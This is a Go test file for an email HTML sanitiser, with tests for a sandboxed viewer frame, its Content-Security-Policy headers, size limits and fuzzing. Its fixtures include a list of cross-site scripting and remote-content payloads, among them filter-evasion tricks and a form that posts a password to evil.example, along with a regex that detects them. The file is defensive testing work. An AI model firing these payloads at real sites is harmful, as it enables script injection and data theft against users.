package console

import (
	"encoding/base64"
	"net/http"
	"regexp"
	"strings"
	"testing"
	"time"
)

// pixel is the smallest GIF.
const pixel = "R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"

// hostileHTML is what nobody wants to look at.
func hostileHTML() []string {
	return []string{
		`<script>alert(1)</script>`,
		`<scr<script>ipt>alert(1)</script>`,
		`<img src=x onerror=alert(1)>`,
		`<IMG """><SCRIPT>alert(1)</SCRIPT>">`,
		`<body onload=alert(1) background="https://evil.example/b.png">`,
		`<a href="javascript:alert(1)">x</a>`,
		`<a href=" &#x6a;avascript:alert(1)">x</a>`,
		`<a href="java` + "\t" + `script:alert(1)">x</a>`,
		`<a href="data:text/html,<script>alert(1)</script>">x</a>`,
		`<a href="vbscript:msgbox(1)">x</a>`,
		`<meta http-equiv=refresh content="0;url=https://evil.example/">`,
		`<base href="https://evil.example/">`,
		`<link rel=stylesheet href="https://evil.example/x.css">`,
		`<form action="https://evil.example/"><input name=password><button formaction="https://evil.example">Send</button></form>`,
		`<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>`,
		`<frameset><frame src="https://evil.example/"></frameset>`,
		`<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf"><applet code=x></applet>`,
		`<svg onload=alert(1)><script>alert(1)</script><image href="https://evil.example/i.png"/></svg>`,
		`<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
		`<svg><style><img src=x onerror=alert(1)></style></svg>`,
		`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
		`<math href="javascript:alert(1)">x</math>`,
		`<div style="background:url(https://evil.example/t.png)">x</div>`,
		`<div style="background-image:u\72l(//evil.example/t.png);color:red">x</div>`,
		`<div style="width:expression(alert(1));behavior:url(x.htc);-moz-binding:url(//evil.example/x.xml)">x</div>`,
		`<div style="color:red;}@import '//evil.example/x.css';">x</div>`,
		`<div style='font-family:"</div><script>alert(1)</script>"'>x</div>`,
		`<style>@import url(https://evil.example/x.css);body{background:url(//evil.example/y.png)}</style>`,
		`<img src="data:image/svg+xml;base64,` + base64.StdEncoding.EncodeToString([]byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`)) + `">`,
		`<img src="data:image/png;base64,` + base64.StdEncoding.EncodeToString([]byte(`<html><script>alert(1)</script>`)) + `">`,
		`<img src="data:text/html;base64,` + base64.StdEncoding.EncodeToString([]byte(`<script>alert(1)</script>`)) + `">`,
		`<img srcset="https://evil.example/1.png 1x" src="https://evil.example/2.png">`,
		`<img src="//evil.example/3.png"><img src="\\evil.example\4.png"><img src=" https://evil.example/5.png">`,
		`<video poster="https://evil.example/p.png" src="https://evil.example/v.mp4"></video><audio src="https://evil.example/a.mp3" autoplay></audio>`,
		`<picture><source srcset="https://evil.example/s.webp"><img></picture>`,
		`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
		`<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>`,
		`<xmp><img src=x onerror=alert(1)></xmp><plaintext><script>alert(1)</script>`,
		`<template><script>alert(1)</script></template>`,
		`<!--><script>alert(1)</script>--><![CDATA[<script>alert(1)</script>]]><?xml-stylesheet href="https://evil.example"?>`,
		`<p title="x" onmouseover="alert(1)" ONCLICK=alert(1) on` + "\x00" + `click=alert(1)>x</p>`,
		"<scr\x00ipt>alert(1)</scr\x00ipt><img src=\"java\x00script:alert(1)\">",
		`<a href="https://good.example/?a=1&b=2" ping="https://evil.example/" target=_top>a link</a>`,
		`<map><area href="https://evil.example/"></map><input type=image src="https://evil.example/i.png"><table background="https://evil.example/t.png"><tr><td>x`,
		`<dialog open><details ontoggle=alert(1) open>x</details></dialog><marquee onstart=alert(1)>x</marquee>`,
		`<p id="main" name="body" class="toast" accesskey=x contenteditable autofocus tabindex=1>x</p>`,
	}
}

// active is what must not be left of it.
var active = regexp.MustCompile(`(?i)<\s*/?\s*(script|style|svg|math|iframe|frame|object|embed|applet|form|input|button|textarea|select|meta|base|link|video|audio|source|picture|template|noscript|xmp|plaintext|dialog|details|marquee|map|area|body|html|!|\?)` +
	`|<[^>]*\s(on[a-z]+|href|srcset|background|poster|action|formaction|ping|id|name|class|srcdoc|xlink:href|autofocus|target|data)\s*=` +
	`|<[^>]*\ssrc\s*=\s*"?(?:[^"d]|d[^a])|url\(|@import|expression\(|behavior|-moz-binding|data:(text|image/svg)|\x00`)

func TestNothingActiveOrRemoteIsLeft(t *testing.T) {
	t.Parallel()
	none := func(string) []byte { return nil }
	for _, raw := range hostileHTML() {
		clean := sanitiseMail(raw, none)
		if found := active.FindString(clean.HTML); found != "" {
			t.Errorf("%q became %q, which holds %q", raw, clean.HTML, found)
		}
		if twice := sanitiseMail(clean.HTML, none); active.MatchString(twice.HTML) {
			t.Errorf("%q becomes %q when it is read again", clean.HTML, twice.HTML)
		}
	}
}

func TestHarmlessHTMLStays(t *testing.T) {
	t.Parallel()
	gif, err := base64.StdEncoding.DecodeString(pixel)
	if err != nil {
		t.Fatal(err)
	}
	image := func(id string) []byte {
		switch id {
		case "logo@x":
			return gif
		case "fake@x":
			return []byte(`<svg xmlns="http://www.w3.org/2000/svg"/>`)
		}
		return nil
	}
	for raw, want := range map[string]string{
		`<p style="color: red; position: fixed">Hello <b>you</b></p>`:  `<p style="color: red">Hello <b>you</b></p>`,
		`<table width="100%" bgcolor=#eee><tr><td>x</td></tr></table>`: `<table width="100%" bgcolor="#eee"><tr><td>x</td></tr></table>`,
		`<img src="cid:logo%40x" alt="Logo" width=10>`:                 `<img src="data:image/gif;base64,` + pixel + `" alt="Logo" width="10">`,
		`<img src="CID:logo@x">`:                                       `<img src="data:image/gif;base64,` + pixel + `">`,
		`<img src="cid:fake@x" alt="Fake">`:                            `<img alt="Fake">`,
		`<img src="cid:none@x" alt="None">`:                            `<img alt="None">`,
		`<img src="data:image/png;base64,` + pixel + `">`:              `<img src="data:image/gif;base64,` + pixel + `">`,
		`<a href="https://good.example/?a=1&b=2">a link</a>`:           `<a title="https://good.example/?a=1&amp;b=2">a link</a>`,
		`<body bgcolor=white><p>a &lt;script&gt; b</body>`:             `<div bgcolor="white"><p>a &lt;script&gt; b</div>`,
		`<title>A title</title><h1>A head</h1>`:                        `<h1>A head</h1>`,
	} {
		if got := sanitiseMail(raw, image).HTML; got != want {
			t.Errorf("%q became\n%q, want\n%q", raw, got, want)
		}
	}
}

func TestWhatIsLeftOutIsCounted(t *testing.T) {
	t.Parallel()
	c := sanitiseMail(`<style>a{background:url(//x/1.png)}</style><img src="https://x/2.png" srcset="https://x/2b.png 2x"><img src=cid:a><td background=http://x/3.png><p style="background:url('https://x/4.png')"><a href="https://x/">y</a>`, func(string) []byte { return nil })
	if c.Remote != 4 || c.Links != 1 || c.Cut {
		t.Errorf("counted %d remote images and %d links", c.Remote, c.Links)
	}
}

// Time that grows with the square of the size would be hours here.
func TestHugeHTMLTakesLittleTime(t *testing.T) {
	t.Parallel()
	for _, raw := range []string{
		strings.Repeat("<div>", 800_000), strings.Repeat("<", 4<<20), `<p style="` + strings.Repeat("color:red;", 400_000) + `">x</p>`,
		`<img src="data:image/png;base64,` + strings.Repeat("A", 4<<20) + `">`, "<p " + strings.Repeat("a=b ", 1_000_000) + ">x</p>", strings.Repeat("<a href=//x>", 300_000),
		"<!--" + strings.Repeat("-", 4<<20), strings.Repeat("<svg><style>", 300_000), strings.Repeat("&amp;", 800_000), strings.Repeat(`<p style="color:red">`, 200_000),
	} {
		began := time.Now()
		if c := sanitiseMail(raw, func(string) []byte { return nil }); !c.Cut || len(c.HTML) > 16<<20 {
			t.Errorf("%.20q… became %d bytes", raw, len(c.HTML))
		}
		if took := time.Since(began); took > 2*time.Minute {
			t.Errorf("%.20q… took %s", raw, took)
		}
	}
}

func TestTheFrameOfAMailIsSandboxed(t *testing.T) {
	t.Parallel()
	s := newLedgerSite(t)
	id := s.persist(5, htmlMail(`<img src="cid:logo@x" alt="Logo"><a href="https://evil.example/">x</a>`+strings.Join(hostileHTML(), "\n")), nil)
	b := s.as(s.Rita)
	answer := b.do(http.MethodGet, "/t/acme/mails/"+id+"/html", nil)
	body := text(t, answer)
	policy := answer.Header.Get("Content-Security-Policy")
	for _, want := range []string{"default-src 'none'", "sandbox", "img-src data:", "frame-ancestors 'self'", "form-action 'none'"} {
		if !strings.Contains(policy, want) {
			t.Errorf("the policy is %q", policy)
		}
	}
	if strings.Contains(policy, "allow-") || strings.Contains(policy, "script-src") || answer.Header.Get("X-Frame-Options") != "SAMEORIGIN" || answer.Header.Get("Content-Type") != "text/html; charset=utf-8" {
		t.Errorf("the headers are %v", answer.Header)
	}
	_, content, _ := strings.Cut(body, "<body>")
	if found := active.FindString(strings.TrimSuffix(content, "</body></html>")); found != "" {
		t.Errorf("%q is in %s", found, content)
	}
	has(t, content, "data:image/gif;base64,"+pixel)
	page := b.open(http.StatusOK, "/t/acme/mails/"+id)
	has(t, page, "left out", "Links lead nowhere here", `<iframe class="frame" src="/t/acme/mails/`+id+`/html" sandbox `)
	hasNot(t, page, "evil.example", "<script>alert")
}

// htmlMail is a mail with HTML and an image in it, and one that only claims to
// be an image.
func htmlMail(html string) string {
	return "From: Eve <eve@example.net>\r\nTo: support@acme.example\r\nSubject: Look\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n" +
		"--b\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n" + base64.StdEncoding.EncodeToString([]byte(html)) +
		"\r\n--b\r\nContent-Type: image/gif\r\nContent-ID: <logo@x>\r\nContent-Disposition: inline; filename=logo.gif\r\nContent-Transfer-Encoding: base64\r\n\r\n" + pixel +
		"\r\n--b\r\nContent-Type: image/png\r\nContent-ID: <fake@x>\r\nContent-Disposition: inline; filename=fake.png\r\n\r\n<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>\r\n--b--\r\n"
}

func FuzzSanitiseMail(f *testing.F) {
	for _, raw := range hostileHTML() {
		f.Add(raw)
	}
	f.Fuzz(func(t *testing.T, raw string) {
		if clean := sanitiseMail(raw, func(string) []byte { return []byte(raw) }); active.MatchString(clean.HTML) {
			t.Errorf("%q became %q", raw, clean.HTML)
		}
	})
}
